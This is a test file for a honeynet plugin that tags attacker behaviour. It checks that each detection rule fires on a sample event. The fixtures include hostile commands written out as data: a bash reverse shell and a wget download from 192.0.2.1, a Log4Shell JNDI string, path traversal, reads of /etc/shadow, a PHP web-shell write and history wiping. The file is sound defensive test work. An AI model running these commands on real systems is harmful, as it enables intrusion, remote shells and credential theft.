import { taggerEventsOf, type CallContext, type JsonObject } from '@shardscope/sdk';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  loadAttackCatalogue,
  loadBuiltinPack,
  ttpOptionsSchema,
  ttpPlugin,
} from '../../../../packages/plugins/src/ttp/index.ts';
import type { TtpOptions } from '../../../../packages/plugins/src/ttp/index.ts';

/** Topics of a live honeynet. */
const OBSERVED = 'attacker.observed';
const ENDED = 'attacker.session.ended';
const FINGERPRINTED = 'attacker.fingerprinted';
const INTEL = 'attacker.intel.enriched';
const EMAIL = 'email.received';
const CANARY = 'canary.t1.triggered';

const typed = (text: string): [string, string, JsonObject] => [ENDED, '', { commands: [text] }];
const login = (payload: JsonObject): [string, string, JsonObject] => [
  OBSERVED,
  '',
  { source_kind: 'auth_attempt', ...payload },
];
const web = (payload: JsonObject): [string, string, JsonObject] => [
  OBSERVED,
  '',
  { source_kind: 'http_request', ...payload },
];

/** For each rule an event as it comes in: its topic, its type, its payload. */
const EVENTS: Readonly<Record<string, [topic: string, type: string, payload: JsonObject]>> = {
  R0001: login({ fail_count: 5 }),
  R0002: login({ password_count: 5, username: 'root' }),
  R0003: ['identity.formed', '', { shared_password_hash: 'aa', account_count: 3 }],
  R0004: ['credential.reuse.detected', '', { credential_hash: 'aa', reuse_count: 1 }],
  R0005: login({ result: 'success', prior_brute: true }),
  R0006: login({ username: 'pi', password: 'raspberry' }),
  R0007: web({ user_agent: 'sqlmap/1.8' }),
  R0008: web({ raw_url: '/?q=${jndi:ldap://192.0.2.1/a}' }),
  R0009: web({ raw_url: '/static/../../etc/hosts' }),
  R0010: typed('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
  R0011: typed('python3 -c "import os"'),
  R0012: typed('wget http://192.0.2.1/a'),
  R0013: typed('cat /etc/passwd'),
  R0014: typed('sudo cat /etc/shadow'),
  R0015: typed('find / -perm -4000'),
  R0016: typed('find /etc -name x'),
  R0017: typed('nmap 192.0.2.0/24'),
  R0018: typed('uname -a'),
  R0019: typed('whoami'),
  R0020: typed('ip addr'),
  R0021: typed('netstat -an'),
  R0022: typed('ldapsearch -x -H ldap://192.0.2.1'),
  R0023: typed('smbclient -L //192.0.2.1'),
  R0024: typed('useradd -m -s /bin/bash bob'),
  R0025: typed('crontab -e'),
  R0026: typed('redis-cli -h 192.0.2.1 config set dir /root/.ssh'),
  R0027: typed("echo '<?php system($_GET[0]);' > /var/www/html/x.php"),
  R0028: typed('history -c'),
  R0029: typed('sudo -l'),
  R0030: [
    FINGERPRINTED,
    'jarm',
    { jarm: '07d14d16d21d21d07c42d41d00041d24a458a375eef0c576d23a7bab9a9fb1' },
  ],
  R0031: [ENDED, '', { beacon_interval_s: 60, beacon_jitter_pct: 0.1 }],
  R0032: [ENDED, '', { op_text: 'FLUSHALL' }],
  R0033: [
    ENDED,
    '',
    { note_text: 'Send 1 bitcoin to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa to decrypt.' },
  ],
  R0034: [ENDED, '', { bytes_out: 1_048_576 }],
  R0035: [ENDED, '', { rows_read: 10_000 }],
  R0036: web({ path: '/.env' }),
  R0037: web({ path: '/api/v1/namespaces/default/secrets' }),
  R0038: [ENDED, '', { signals: ['privileged:true'] }],
  R0039: [ENDED, '', { llmnr_poisoned: true }],
  R0040: [ENDED, '', { tftp_filename: 'router1-confg' }],
  R0041: [EMAIL, '', { rcpt_count: 10, from_domain: 'a.example', mail_from_domain: 'b.example' }],
  R0042: [EMAIL, '', { rcpt_count: 25, body_simhash: '' }],
  R0043: [EMAIL, '', { x_mailer: 'Mailer', matched_kit: 'kit' }],
  R0044: [EMAIL, '', { urls: ['http://xn--pple-43d.example/'] }],
  R0045: [EMAIL, '', { from_domain: 'a.example', return_path_domain: 'b.example' }],
  R0046: [EMAIL, '', { attachment_extensions: ['.lnk'] }],
  R0047: [EMAIL, '', { subject: 'Urgent wire', body_text: 'Please send it, confidential.' }],
  R0048: [EMAIL, '', { body_text: 'QUJD'.repeat(2000) }],
  R0049: [CANARY, '', { navigator_webdriver: true }],
  R0050: [CANARY, '', { canvas_audio_hash_match: 'puppeteer' }],
  R0051: [CANARY, '', { webrtc_geo_mismatch: true }],
  R0052: [CANARY, '', { tz_mismatch_zones: 3 }],
  R0053: [CANARY, '', { ua_webgl_mismatch: true }],
  R0054: [INTEL, '', { abuseipdb_score: 90, abuseipdb_categories: [18] }],
  R0055: [INTEL, '', { greynoise_tags: ['tor_exit_node'] }],
  R0056: [INTEL, '', { feodo_listed: true }],
  R0057: [INTEL, '', { threatfox_threat_types: ['botnet_cc'] }],
  R0059: [FINGERPRINTED, 'ipv6_leak', { addr: 'fe80::1' }],
};

/** Raises what an attacker's tags are worth and gives none of its own. */
const RAISING = 'R0058';

describe('each rule of the pack fires on an event as it comes in', () => {
  const tagger = ttpPlugin();
  const options = ttpOptionsSchema.parse(loadBuiltinPack());
  const quiet = (): void => undefined;
  const context: CallContext<TtpOptions> = {
    plugin: { id: 'shardscope/ttp', version: '0' },
    options,
    log: { debug: quiet, info: quiet, warn: quiet },
    signal: new AbortController().signal,
    registry: { get: () => undefined, list: () => [] },
    attack: loadAttackCatalogue(),
    regex: { compile: () => ({ test: () => false, find: () => null }) },
    onDispose: quiet,
    deadline: 1000,
  };
  const lifted = async ([topic, type, payload]: [string, string, JsonObject]) => {
    const anchor = { attacker_uuid: 'a', session_id: 's' };
    const envelope = { v: 1, id: '0'.repeat(32), topic, type, ts: 1, payload };
    const events = taggerEventsOf({ ...envelope, payload: { ...anchor, ...payload } });
    const rules = new Set<string>();
    for (const event of events) {
      for (const lifter of tagger.plugin.lifters ?? []) {
        if (!lifter.handles.includes(event.source_kind)) continue;
        for await (const draft of lifter.lift(event, context)) rules.add(draft.ruleId);
      }
    }
    return rules;
  };

  beforeAll(async () => {
    await tagger.plugin.setup?.(context);
  });

  it('there is an event for each from R0001 to R0059', () => {
    const numbers = Array.from({ length: 59 }, (_value, i) => `R${String(i + 1).padStart(4, '0')}`);
    expect([...Object.keys(EVENTS), RAISING].sort()).toEqual(numbers);
  });

  it.each(Object.entries(EVENTS))('%s', async (rule, event) => {
    expect(await lifted(event)).toContain(rule);
  });

  it('R0058 raises, and gives no tag', async () => {
    const intel = { aggregate_verdict: 'malicious' };
    expect(tagger.ruleSet()?.confidenceRaise(intel)).toBe(0.05);
    expect(await lifted([INTEL, '', intel])).toEqual(new Set());
  });

  it.each(['GE11nn0000', 'GE20nn0000', 'GE30nn0000'])(
    'a fingerprint of curl, %s, is scanning',
    async (start) => {
      const ja4h = `${start}_4740ae6347b0_000000000000_000000000000`;
      const rules = await lifted([FINGERPRINTED, 'http_fingerprint', { ja4h }]);
      expect(rules.size).toBeGreaterThan(0);
    },
  );
});
